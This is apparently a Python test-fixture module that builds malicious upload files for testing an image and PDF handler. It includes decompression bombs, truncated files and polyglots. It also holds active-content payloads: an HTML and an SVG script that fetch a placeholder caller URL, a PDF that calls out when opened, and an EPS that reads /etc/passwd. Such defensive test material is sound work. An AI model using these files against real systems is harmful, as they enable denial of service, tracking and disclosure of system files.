"""Files made to hurt whoever opens proofs: bombs, polyglots, broken ones, papers that call. Each by its name."""

import struct
import zlib
from collections.abc import Callable
from io import BytesIO

from PIL import Image
from pypdf import PdfWriter
from pypdf.generic import DictionaryObject, NameObject, StreamObject, TextStringObject

from tests.factories import proofs

SCRIPT = b"<html><script>fetch('CALLER')</script></html>"


def _chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png(
    width: int, height: int, *, depth: int = 8, colour: int = 6, more: bytes = b"", data: bytes = b"\0" * 1_000
) -> bytes:
    """Return a PNG that says it is so large, whatever it holds."""
    head = struct.pack(">IIBBBBB", width, height, depth, colour, 0, 0, 0)
    packed = zlib.compress(data, 9)
    return b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", head) + more + _chunk(b"IDAT", packed) + _chunk(b"IEND", b"")


def _pdf(change: Callable[[PdfWriter], None], size: tuple[float, float] = (595, 842)) -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(*size)
    change(writer)
    out = BytesIO()
    writer.write(out)
    return out.getvalue()


def _stream(writer: PdfWriter, content: bytes) -> None:
    """Let the first page draw this."""
    stream = StreamObject()
    stream.set_data(content)
    writer.pages[0][NameObject("/Contents")] = writer._add_object(stream.flate_encode())


def _image(writer: PdfWriter, width: int, height: int) -> None:
    """Put a picture that says it is so large on the first page."""
    inside = StreamObject()
    inside.set_data(b"\0" * 1_000_000)
    inside = inside.flate_encode()
    inside.update(
        {
            NameObject("/Type"): NameObject("/XObject"), NameObject("/Subtype"): NameObject("/Image"),
            NameObject("/Width"): _number(width), NameObject("/Height"): _number(height),
            NameObject("/ColorSpace"): NameObject("/DeviceRGB"), NameObject("/BitsPerComponent"): _number(8),
        }
    )  # fmt: skip
    held = DictionaryObject({NameObject("/A"): writer._add_object(inside)})
    writer.pages[0][NameObject("/Resources")] = DictionaryObject({NameObject("/XObject"): held})
    _stream(writer, b"500 0 0 500 0 0 cm /A Do")


def _number(value: int):  # type: ignore[no-untyped-def]  # the library's own number
    from pypdf.generic import NumberObject

    return NumberObject(value)


def _calls(writer: PdfWriter, caller: str) -> None:
    action = {NameObject("/S"): NameObject("/URI"), NameObject("/URI"): TextStringObject(caller)}
    writer.root_object[NameObject("/OpenAction")] = DictionaryObject(action)
    writer.add_uri(0, caller, (0, 0, 500, 500))


def _jpeg_that_says(width: int, height: int) -> bytes:
    data = bytearray(proofs.photo())
    at = data.find(b"\xff\xc0")
    data[at + 5 : at + 9] = struct.pack(">HH", height, width)
    return bytes(data)


def _moving(frames: int) -> bytes:
    out = BytesIO()
    first, *rest = (Image.new("RGB", (400, 400), (count % 255, 0, 0)) for count in range(frames))
    first.save(out, "PNG", save_all=True, append_images=rest)
    return out.getvalue()


def _with_comment() -> bytes:
    """A photograph with a script in the comment that its format allows."""
    data = proofs.photo()
    return data[:2] + b"\xff\xfe" + struct.pack(">H", len(SCRIPT) + 2) + SCRIPT + data[2:]


def _late_pdf() -> bytes:
    """A photograph that is a PDF too, for whoever looks for the heading further in."""
    return proofs.photo() + proofs.paper(script=True)


BOMBS: dict[str, Callable[[str], bytes]] = {
    "png: two thousand million pixels": lambda caller: png(50_000, 50_000),
    "png: as wide as can be said": lambda caller: png(2**31 - 1, 2**31 - 1),
    "png: forty-nine million pixels in 16 bits": lambda caller: png(
        7_000, 7_000, depth=16, data=b"\0" * (7_000 * 8 + 1) * 7_000
    ),
    "png: a text of a hundred megabytes": lambda caller: png(
        10, 10, more=_chunk(b"zTXt", b"a\0\0" + zlib.compress(b"x" * 100_000_000, 9)), data=b"\0" * 410
    ),
    "png: a colour profile of a hundred megabytes": lambda caller: png(
        10, 10, more=_chunk(b"iCCP", b"a\0\0" + zlib.compress(b"x" * 100_000_000, 9)), data=b"\0" * 410
    ),
    "png: cut off": lambda caller: proofs.photo("PNG")[:-200],
    "png: a page behind its end": lambda caller: proofs.photo("PNG") + SCRIPT.replace(b"CALLER", caller.encode()),
    "png: a hundred frames": lambda caller: _moving(100),
    "jpeg: says it is larger than it is": lambda caller: _jpeg_that_says(65_000, 65_000),
    "jpeg: says it is a little larger": lambda caller: _jpeg_that_says(6_000, 6_000),
    "jpeg: a script in its comment": lambda caller: _with_comment(),
    "jpeg: an archive behind its end": lambda caller: proofs.photo() + b"PK\x05\x06" + b"\0" * 18,
    "jpeg: a paper behind its end": lambda caller: _late_pdf(),
    "jpeg: nothing but its beginning": lambda caller: b"\xff\xd8\xff\xe0",
    "webp: says it is larger than it is": lambda caller: (
        b"RIFF\xff\xff\xff\x7fWEBPVP8X\x0a\0\0\0" + b"\0" * 4 + b"\xff" * 6 + b"\0" * 50
    ),
    "heic: nothing inside": lambda caller: b"\0\0\0\x18ftypheic\0\0\0\0heicmif1" + b"\0" * 200,
    "heic: cut off": lambda caller: proofs.HEIC[:400],
    "svg": lambda caller: b"<svg xmlns='http://www.w3.org/2000/svg' onload=\"fetch('" + caller.encode() + b"')\"/>",
    "html called a photograph": lambda caller: SCRIPT,
    "eps": lambda caller: b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 10 10\n(/etc/passwd) (r) file\n",
    "pdf: a script, a link, a file": lambda caller: proofs.paper(script=True),
    "pdf: calls when it is opened": lambda caller: _pdf(lambda writer: _calls(writer, caller)),
    "pdf: a page of twenty metres": lambda caller: proofs.paper(size=(56_000, 56_000)),
    "pdf: a page without size": lambda caller: proofs.paper(size=(0, 0)),
    "pdf: a hundred pages": lambda caller: proofs.paper(100),
    "pdf: locked": lambda caller: proofs.paper(password="secret"),
    "pdf: ten million lines": lambda caller: _pdf(lambda writer: _stream(writer, b"0 0 m 500 500 l S " * 10_000_000)),
    "pdf: rectangles in rectangles": lambda caller: _pdf(lambda writer: _stream(writer, b"q " * 5_000_000)),
    "pdf: a picture of ten thousand million pixels": lambda caller: _pdf(
        lambda writer: _image(writer, 100_000, 100_000)
    ),
    "pdf: a picture larger than its bytes": lambda caller: _pdf(lambda writer: _image(writer, 12_000, 12_000)),
    "pdf: nothing but its heading": lambda caller: b"%PDF-1.7\n",
    "pdf: its table is a circle": lambda caller: (
        b"%PDF-1.4\n1 0 obj<</Pages 1 0 R/Type/Catalog/Kids[1 0 R]/Count 9>>endobj\n"
        b"trailer<</Root 1 0 R/Prev 0>>\nstartxref\n9\n%%EOF"
    ),
}
